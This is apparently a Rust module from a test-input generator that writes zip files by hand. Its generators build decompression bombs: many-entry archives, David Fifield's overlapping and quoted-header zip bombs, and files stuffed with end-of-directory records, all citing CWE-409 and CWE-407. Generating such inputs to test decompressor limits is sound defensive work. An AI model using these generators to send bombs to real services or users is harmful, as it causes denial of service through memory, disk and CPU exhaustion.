//! Zip files: plain ones, and the overlaps that no zip writer emits. Headers are written by hand, with zip64 where sizes
//! need it.
//!
//! Both overlaps are David Fifield's: "A better zip bomb", WOOT 2019, <https://www.bamsoftware.com/hacks/zipbomb/>.

pub mod nested;
pub mod quine;

use crate::deflate::{PATTERN, crc32_of_run, pattern, run};
use crate::params::{Param, number};
use crate::text::{Sink, repeat};
use crate::{Content, Expanded, Family, GeneratorError, Kind, Params};
use flate2::Compression;
use flate2::write::DeflateEncoder;
use std::io::{self, Write};

const ENTRIES: Param = number("entries", "entries", 200, (1, 1 << 20), "files in the archive");
const EACH: Param = number("each", "bytes", 8 << 20, (0, 1 << 36), "output of one file, compressed once: the kernel");

pub const ZIP_DEFLATE: Family = Family {
    name: "zip-deflate",
    about: "Many files with a run in each: a limit for each file is no limit for the archive",
    kind: Kind::Zip,
    source: "APPNOTE.TXT 6.3.10, sections 4.3 and 4.4.5; CWE-409",
    scale: Some("entries"),
    own_params: &[
        number("entries", "entries", 16, (1, 1 << 20), "files in the archive"),
        number("each", "bytes", 64 << 20, (0, 1 << 36), "output of one file"),
        PATTERN,
    ],
    write: |params, out| {
        let kernel = Kernel::of(params);
        let entries = params.number("entries");
        let entry = |at: u64| {
            let own = kernel.entry(name(at, entries), 0);
            let offset = at * (own.local_header().len() as u64 + kernel.compressed);
            Entry { offset, ..own }
        };
        for at in 0..entries {
            out.write_all(&entry(at).local_header())?;
            kernel.write(out)?;
        }
        let last = entry(entries - 1);
        let directory = last.offset + last.local_header().len() as u64 + kernel.compressed;
        end(out, directory, (0..entries).map(entry))?;
        Ok(expands(u128::from(entries) * u128::from(kernel.expanded)))
    },
};

pub const ZIP_OVERLAP_FULL: Family = Family {
    name: "zip-overlap-full",
    about: "Every entry of the directory is one and the same file; readers that compare names refuse it",
    kind: Kind::Zip,
    source: "Fifield, \"A better zip bomb\", WOOT 2019, section \"The first insight: overlapping files\"",
    scale: Some("entries"),
    own_params: &[
        number("entries", "entries", 1000, (1, 1 << 20), "entries of the directory"),
        number("each", "bytes", 64 << 20, (0, 1 << 36), "output of the file: the kernel"),
        PATTERN,
    ],
    write: |params, out| {
        let kernel = Kernel::of(params);
        let entries = params.number("entries");
        let first = kernel.entry(name(0, entries), 0);
        out.write_all(&first.local_header())?;
        kernel.write(out)?;
        let directory = first.local_header().len() as u64 + kernel.compressed;
        end(out, directory, (0..entries).map(|at| kernel.entry(name(at, entries), 0)))?;
        Ok(expands(u128::from(entries) * u128::from(kernel.expanded)))
    },
};

pub const ZIP_OVERLAP_QUOTED: Family = Family {
    name: "zip-overlap-quoted",
    about: "Every file contains the headers of all that follow, quoted, and all share one kernel: valid, and quadratic",
    kind: Kind::Zip,
    source: "Fifield, \"A better zip bomb\", WOOT 2019, section \"The second insight: quoting local file headers\"; \
             zblg.zip is about entries=65534 each=4292788525",
    scale: Some("entries"),
    own_params: &[ENTRIES, EACH, PATTERN],
    write: quoted,
};

pub const ZIP_END_RECORDS: Family = Family {
    name: "zip-end-records",
    about: "Ends of a directory that is not there: a reader that tries each looks through all that is before it",
    kind: Kind::Zip,
    source: "APPNOTE.TXT 6.3.10, section 4.3.16: a comment may hold the signature, so readers search; CWE-407",
    scale: Some("records"),
    own_params: &[number("records", "records", 10_000, (1, 1 << 26), "ends of central directory, 22 bytes each")],
    write: |params, out| {
        // One file, in a directory at 0 that is as long as its header would be without a name.
        repeat(out, &end_record(1, 46, 0), params.number("records"))?;
        Ok(Content::Declares(1))
    },
};

/// From the last file to the first, for each contains the next; then written from the first to the last.
fn quoted(params: &Params, out: &mut dyn Write) -> Result<Content, GeneratorError> {
    /// What is left of an entry once the entry before it is known.
    struct Sizes {
        crc32: u32,
        compressed: u64,
        expanded: u64,
    }
    let kernel = Kernel::of(params);
    let entries = params.number("entries");
    let mut sizes = vec![Sizes { crc32: kernel.crc32, compressed: kernel.compressed, expanded: kernel.expanded }];
    let entry = |at: u64, sizes: &Sizes, offset: u64| Entry {
        name: name(at, entries),
        crc32: sizes.crc32,
        compressed: sizes.compressed,
        expanded: sizes.expanded,
        offset,
    };
    for at in (1..entries).rev() {
        let next = &sizes[sizes.len() - 1];
        let header = entry(at, next, 0).local_header();
        let mut crc32 = crc32fast::Hasher::new();
        crc32.update(&header);
        crc32.combine(&crc32fast::Hasher::new_with_initial_len(next.crc32, next.expanded));
        sizes.push(Sizes {
            crc32: crc32.finalize(),
            compressed: QUOTE_BYTES + header.len() as u64 + next.compressed,
            expanded: header.len() as u64 + next.expanded,
        });
    }
    sizes.reverse();
    let mut offset = 0;
    let mut offsets = Vec::with_capacity(sizes.len());
    for (at, sizes) in sizes.iter().enumerate() {
        let header = entry(at as u64, sizes, 0).local_header();
        if at > 0 {
            quote(out, header.len())?;
            offset += QUOTE_BYTES;
        }
        out.write_all(&header)?;
        offsets.push(offset);
        offset += header.len() as u64;
    }
    kernel.write(out)?;
    let all = sizes.iter().zip(&offsets).enumerate();
    end(out, offset + kernel.compressed, all.map(|(at, (sizes, offset))| entry(at as u64, sizes, *offset)))?;
    Ok(expands(sizes.iter().map(|sizes| u128::from(sizes.expanded)).sum()))
}

/// A stored block, which says of the bytes behind it that they are output.
const QUOTE_BYTES: u64 = 5;

fn quote(out: &mut dyn Write, bytes: usize) -> io::Result<()> {
    let length = bytes as u16;
    out.write_all(&[0])?;
    out.write_all(&length.to_le_bytes())?;
    out.write_all(&(!length).to_le_bytes())
}

fn expands(bytes: u128) -> Content {
    Content::Expands(Expanded::Exact(bytes))
}

/// What all files share.
struct Kernel {
    pattern: &'static [u8],
    expanded: u64,
    compressed: u64,
    crc32: u32,
}

impl Kernel {
    fn of(params: &Params) -> Self {
        let (pattern, expanded) = (pattern(params), params.number("each"));
        let mut sink = Sink { bytes: 0, bytes_max: u64::MAX };
        run(&mut sink, pattern, expanded).expect("a sink without a limit takes all");
        Self { pattern, expanded, compressed: sink.bytes, crc32: crc32_of_run(pattern, expanded) }
    }

    fn write(&self, out: &mut dyn Write) -> io::Result<()> {
        run(out, self.pattern, self.expanded)
    }

    fn entry(&self, name: String, offset: u64) -> Entry {
        Entry { name, crc32: self.crc32, compressed: self.compressed, expanded: self.expanded, offset }
    }
}

/// Names of one length, so that headers have one, too.
fn name(at: u64, entries: u64) -> String {
    let digits = (entries - 1).max(1).ilog10() as usize + 1;
    format!("{at:0digits$}")
}

/// A file of the archive, as both its headers describe it.
struct Entry {
    name: String,
    crc32: u32,
    compressed: u64,
    expanded: u64,
    offset: u64,
}

const METHOD_DEFLATE: u16 = 8;
const VERSION_DEFLATE: u16 = 20;
const VERSION_ZIP64: u16 = 45;
/// 1980-01-01, the earliest there is.
const DATE: u16 = 1 << 5 | 1;
const MAX_16: u64 = 0xffff;
const MAX_32: u64 = 0xffff_ffff;

impl Entry {
    /// What both headers have in common, from the version needed on (APPNOTE, sections 4.3.7 and 4.3.12).
    fn common(&self, version: u16, sizes: [u64; 2]) -> Vec<u8> {
        let mut bytes = Vec::new();
        for field in [version, 0, METHOD_DEFLATE, 0, DATE] {
            bytes.extend(field.to_le_bytes());
        }
        bytes.extend(self.crc32.to_le_bytes());
        for size in sizes {
            bytes.extend((size.min(MAX_32) as u32).to_le_bytes());
        }
        bytes.extend((self.name.len() as u16).to_le_bytes());
        bytes
    }

    fn local_header(&self) -> Vec<u8> {
        // A local header has both sizes in its zip64 field or none (section 4.5.3).
        let is_large = self.compressed >= MAX_32 || self.expanded >= MAX_32;
        let (version, sizes, extra) = if is_large {
            (VERSION_ZIP64, [MAX_32; 2], zip64_field(&[self.expanded, self.compressed]))
        } else {
            (VERSION_DEFLATE, [self.compressed, self.expanded], Vec::new())
        };
        let mut bytes = b"PK\x03\x04".to_vec();
        bytes.extend(self.common(version, sizes));
        bytes.extend((extra.len() as u16).to_le_bytes());
        bytes.extend(self.name.as_bytes());
        bytes.extend(extra);
        bytes
    }

    fn central_header(&self) -> Vec<u8> {
        let large: Vec<u64> =
            [self.expanded, self.compressed, self.offset].into_iter().filter(|value| *value >= MAX_32).collect();
        let extra = if large.is_empty() { Vec::new() } else { zip64_field(&large) };
        let mut bytes = b"PK\x01\x02".to_vec();
        let version = if large.is_empty() { VERSION_DEFLATE } else { VERSION_ZIP64 };
        bytes.extend(version.to_le_bytes());
        bytes.extend(self.common(version, [self.compressed, self.expanded]));
        bytes.extend((extra.len() as u16).to_le_bytes());
        // Comment, disk, attributes inside and outside.
        bytes.extend([0; 2 + 2 + 2 + 4]);
        bytes.extend((self.offset.min(MAX_32) as u32).to_le_bytes());
        bytes.extend(self.name.as_bytes());
        bytes.extend(extra);
        bytes
    }
}

/// An archive with one deflated file, streamed: its sizes follow it (APPNOTE, section 4.3.9).
pub fn only_file<T>(
    out: &mut dyn Write,
    write: &mut dyn FnMut(&mut dyn Write) -> Result<T, GeneratorError>,
) -> Result<T, GeneratorError> {
    let mut result = None;
    only_file_as_it_is(out, &mut |out| {
        let (written, sums) = deflated(out, write)?;
        result = Some(written);
        Ok(sums)
    })?;
    Ok(result.expect("written once"))
}

const ONLY_NAME: &str = "document";
/// What such an archive has beside the deflated file: local header, descriptor, central header and end.
pub const ONLY_FILE_BYTES: u64 = 30 + 16 + 46 + 22 + 2 * ONLY_NAME.len() as u64;

/// The same, of what `write` writes, which is deflated already; it gives the checksum, and bytes after and before.
pub fn only_file_as_it_is(
    out: &mut dyn Write,
    write: &mut dyn FnMut(&mut dyn Write) -> Result<[u64; 3], GeneratorError>,
) -> Result<(), GeneratorError> {
    const SIZES_FOLLOW: [u8; 2] = 8u16.to_le_bytes();
    let mut entry = Entry { name: ONLY_NAME.to_owned(), crc32: 0, compressed: 0, expanded: 0, offset: 0 };
    let mut header = entry.local_header();
    header[6..8].copy_from_slice(&SIZES_FOLLOW);
    out.write_all(&header)?;
    let [crc32, compressed, expanded] = write(out)?;
    entry = Entry { crc32: crc32 as u32, compressed, expanded, ..entry };
    if compressed >= MAX_32 || expanded >= MAX_32 {
        return Err(GeneratorError::Io(io::Error::other("more than 4 GiB in a zip file whose sizes follow")));
    }
    let mut descriptor = b"PK\x07\x08".to_vec();
    for field in [crc32, compressed, expanded] {
        descriptor.extend((field as u32).to_le_bytes());
    }
    out.write_all(&descriptor)?;
    let mut central = entry.central_header();
    central[8..10].copy_from_slice(&SIZES_FOLLOW);
    Ok(end_of(out, header.len() as u64 + compressed + descriptor.len() as u64, [central].into_iter())?)
}

/// What `write` writes, deflated; its checksum, and bytes after and before.
fn deflated<T>(
    out: &mut dyn Write,
    write: &mut dyn FnMut(&mut dyn Write) -> Result<T, GeneratorError>,
) -> Result<(T, [u64; 3]), GeneratorError> {
    let mut inside = Summed::new(DeflateEncoder::new(Summed::new(out), Compression::best()));
    let result = write(&mut inside)?;
    Ok((result, [inside.crc32.finalize().into(), inside.out.finish()?.bytes, inside.bytes]))
}

/// Passes bytes on, and knows their sum.
struct Summed<W> {
    out: W,
    crc32: crc32fast::Hasher,
    bytes: u64,
}

impl<W> Summed<W> {
    fn new(out: W) -> Self {
        Self { out, crc32: crc32fast::Hasher::new(), bytes: 0 }
    }
}

impl<W: Write> Write for Summed<W> {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let taken = self.out.write(bytes)?;
        self.crc32.update(&bytes[..taken]);
        self.bytes += taken as u64;
        Ok(taken)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

fn zip64_field(values: &[u64]) -> Vec<u8> {
    let mut bytes = 1u16.to_le_bytes().to_vec();
    bytes.extend((values.len() as u16 * 8).to_le_bytes());
    values.iter().for_each(|value| bytes.extend(value.to_le_bytes()));
    bytes
}

/// The central directory and the end of it, with zip64's end where numbers need it (sections 4.3.14 to 4.3.16).
fn end(out: &mut dyn Write, offset: u64, entries: impl Iterator<Item = Entry>) -> io::Result<()> {
    end_of(out, offset, entries.map(|entry| entry.central_header()))
}

fn end_of(out: &mut dyn Write, offset: u64, headers: impl Iterator<Item = Vec<u8>>) -> io::Result<()> {
    let (mut count, mut bytes) = (0u64, 0u64);
    for header in headers {
        out.write_all(&header)?;
        count += 1;
        bytes += header.len() as u64;
    }
    if count >= MAX_16 || offset >= MAX_32 || bytes >= MAX_32 {
        let mut record = b"PK\x06\x06".to_vec();
        record.extend(44u64.to_le_bytes());
        record.extend([45, 0, 45, 0]);
        record.extend([0; 4 + 4]);
        for value in [count, count, bytes, offset] {
            record.extend(value.to_le_bytes());
        }
        record.extend(b"PK\x06\x07");
        record.extend([0; 4]);
        record.extend((offset + bytes).to_le_bytes());
        record.extend(1u32.to_le_bytes());
        out.write_all(&record)?;
    }
    out.write_all(&end_record(count, bytes, offset))
}

/// The last record (section 4.3.16): so many files, and where so many bytes of directory are.
fn end_record(count: u64, bytes: u64, offset: u64) -> Vec<u8> {
    let mut record = b"PK\x05\x06".to_vec();
    record.extend([0; 2 + 2]);
    record.extend((count.min(MAX_16) as u16).to_le_bytes());
    record.extend((count.min(MAX_16) as u16).to_le_bytes());
    record.extend((bytes.min(MAX_32) as u32).to_le_bytes());
    record.extend((offset.min(MAX_32) as u32).to_le_bytes());
    record.extend([0; 2]);
    record
}
